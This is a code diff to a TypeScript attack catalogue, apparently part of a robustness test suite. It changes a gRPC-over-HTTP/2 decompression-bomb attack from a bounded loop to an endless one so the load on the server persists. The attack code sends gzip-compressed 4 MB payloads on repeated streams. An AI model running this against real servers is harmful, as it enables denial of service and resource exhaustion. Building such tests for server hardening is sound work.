@@ -369,11 +369,11 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
       if (!await begin(connection, [4, 0])) return;
       const requests = new Requests();
       const bomb = message(gzipSync(bytesField(new Uint8Array(4_000_000))), 1);
-      for (let call = 0; call < WAITING_CALLS; call++) {
+      // Those that are refused are followed by others, so that the load lasts.
+      for (;;) {
         const { id, bytes } = requests.raw(requests.block(STREAM, [["grpc-encoding", "gzip"]]));
         if (!await connection.write(concat(bytes, frame(0, 0, id, bomb)))) return;
       }
-      await wait(connection);
     },
   },
   {
